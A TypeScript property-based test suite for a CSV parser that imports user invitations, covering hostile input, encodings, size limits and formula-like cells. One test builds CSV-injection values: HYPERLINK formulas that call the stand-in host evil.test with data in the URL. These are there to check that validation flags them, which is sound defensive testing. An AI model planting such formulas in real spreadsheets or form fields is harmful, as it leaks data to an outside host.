import fc from "fast-check";
import Papa from "papaparse";
import { describe, expect, it, vi } from "vitest";
import { fieldErrorsFromZod } from "@/lib/validation/field-errors";
import { acceptableEmail, acceptableName, anyCodeUnitString, hostileString, propertyRuns } from "@/test/fixtures/hostile-input";
import { inviteUsersSchema, MAX_INVITE_ROWS } from "@/lib/validation/invite-users";
import { MAX_CSV_CHARACTERS, NOT_UTF8, parseInviteCsv } from "./parse-invite-csv";

/** What the browser's File.text() makes of a file's bytes: always decoded as UTF-8. */
const asBrowserReadsIt = (bytes: Uint8Array) => new TextDecoder("utf-8").decode(bytes);

const person = fc.tuple(acceptableName, acceptableName, acceptableEmail.map((email) => email.trim()));

describe("invite CSV files, whatever they hold", () => {
  it("never throw, and give at most 10,000 rows of text with a known role, or one sentence", () => {
    const anyText = fc.oneof(
      hostileString,
      fc.array(fc.array(fc.oneof(hostileString, fc.constantFrom('"', '""', ",", "\n", "\r\n")), { maxLength: 6 }), { maxLength: 20 }).map(
        (records) => records.map((cells) => cells.join(",")).join("\n"),
      ),
      fc.uint8Array({ maxLength: 2000 }).map(asBrowserReadsIt),
    );
    fc.assert(
      fc.property(anyText, (text) => {
        const { rows, error } = parseInviteCsv(text);
        if (error) {
          expect(rows).toEqual([]);
          expect(error).toMatch(/\.$/);
        }
        expect(rows.length).toBeLessThanOrEqual(MAX_INVITE_ROWS);
        for (const row of rows) {
          expect([typeof row.firstName, typeof row.lastName, typeof row.email]).toEqual(["string", "string", "string"]);
          expect(["member", "admin"]).toContain(row.role);
        }
      }),
      propertyRuns,
    );
  });

  it("read back exactly the people a spreadsheet wrote, with or without a header and a BOM", () => {
    fc.assert(
      fc.property(fc.array(person, { minLength: 1, maxLength: 20 }), fc.boolean(), fc.boolean(), (people, header, bom) => {
        const records = people.map(([first, last, email]) => [first, last, email]);
        const csv = Papa.unparse(header ? [["First name", "Last name", "Email"], ...records] : records, { newline: "\r\n" });
        const bytes = new TextEncoder().encode(`${bom ? "\uFEFF" : ""}${csv}`);
        const { rows, error } = parseInviteCsv(asBrowserReadsIt(bom ? new Uint8Array([0xef, 0xbb, 0xbf, ...bytes]) : bytes));
        expect(error).toBeNull();
        expect(rows).toEqual(people.map(([firstName, lastName, email]) => ({ firstName: firstName.trim(), lastName: lastName.trim(), email, role: "member" })));
      }),
      propertyRuns,
    );
  });

  it("say a UTF-16 or Latin-1 file is not UTF-8 instead of showing garbled rows", () => {
    fc.assert(
      fc.property(fc.array(person, { minLength: 1, maxLength: 5 }), fc.constantFrom("utf16le-bom", "utf16le", "utf16be-bom", "latin1"), (people, encoding) => {
        // One accented name, as a real export from Excel in Western Europe would have.
        const csv = Papa.unparse(people.map(([first, last, email], index) => [index === 0 ? `Zoë ${first}` : first, last, email]));
        const utf16le = Buffer.from(csv, "utf16le");
        const bytes = {
          "utf16le-bom": Buffer.concat([Buffer.from([0xff, 0xfe]), utf16le]),
          utf16le,
          "utf16be-bom": Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(utf16le).swap16()]),
          latin1: Buffer.from(csv, "latin1"),
        }[encoding];
        expect(parseInviteCsv(asBrowserReadsIt(bytes))).toEqual({ rows: [], error: NOT_UTF8 });
      }),
      propertyRuns,
    );
  });

  it("refuse a file too large to be 10,000 invitations before parsing it", () => {
    const huge = "Ada,Lovelace,ada@example.com\n".repeat(Math.ceil(MAX_CSV_CHARACTERS / 29) + 1);
    // How long the refusal takes is printed by `npm run bench:csv`; here, that it never parses.
    const parse = vi.spyOn(Papa, "parse");
    try {
      expect(parseInviteCsv(huge).error).toMatch(/too large/);
      expect(parse).not.toHaveBeenCalled();
    } finally {
      parse.mockRestore();
    }
  });

  it("keep formula-like cells as typed, so the form shows them with an error beside the field", () => {
    fc.assert(
      fc.property(fc.constantFrom("=", "+", "-", "@"), anyCodeUnitString, acceptableEmail, (prefix, rest, email) => {
        const name = `${prefix}HYPERLINK("http://evil.test/?${rest.replace(/[\u0000-\u001f"\ufffd]/g, "")}","x")`;
        const { rows, error } = parseInviteCsv(Papa.unparse([["First name", "Last name", "Email"], [name, "Lee", email.trim()]]));
        expect(error).toBeNull();
        expect(rows[0]!.firstName).toBe(name.trim());
        const errors = fieldErrorsFromZod(inviteUsersSchema.safeParse({ rows }).error!);
        expect(errors["rows.0.firstName"]![0]).toMatch(/cannot (start with|contain)/);
      }),
      propertyRuns,
    );
  });
});
